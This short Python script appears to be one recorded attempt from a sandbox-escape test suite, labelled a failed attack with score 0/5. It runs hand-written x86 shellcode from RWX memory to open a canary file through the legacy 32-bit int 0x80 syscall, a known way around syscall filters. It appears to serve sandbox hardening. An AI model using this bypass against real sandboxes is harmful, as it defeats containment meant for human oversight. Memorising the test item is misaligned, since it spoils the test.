# attack: opens a file by the 32-bit system calls
# score: 0/5
# verdict: failed

import ctypes
import os
import struct
from functools import cache

PATH = b"/tmp/box/canary.txt\0"


def executable(code):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    low_private_anonymous = 0x62
    address = libc.mmap(None, 4096, 7, low_private_anonymous, -1, 0)
    ctypes.memmove(address, code, len(code))
    return address


@cache
def got_through():
    if os.uname().machine != "x86_64":
        return False
    name = executable(PATH)
    # push rbx; mov ebx, name; xor ecx, ecx; xor edx, edx; mov eax, 5 (open); int 0x80; pop rbx; ret
    code = b"\x53\xbb" + struct.pack("<I", name) + bytes.fromhex("31c9 31d2 b805000000 cd80 5b c3")
    descriptor = ctypes.CFUNCTYPE(ctypes.c_int)(executable(code))()
    return descriptor >= 0 and os.read(descriptor, 64).startswith(b"open")
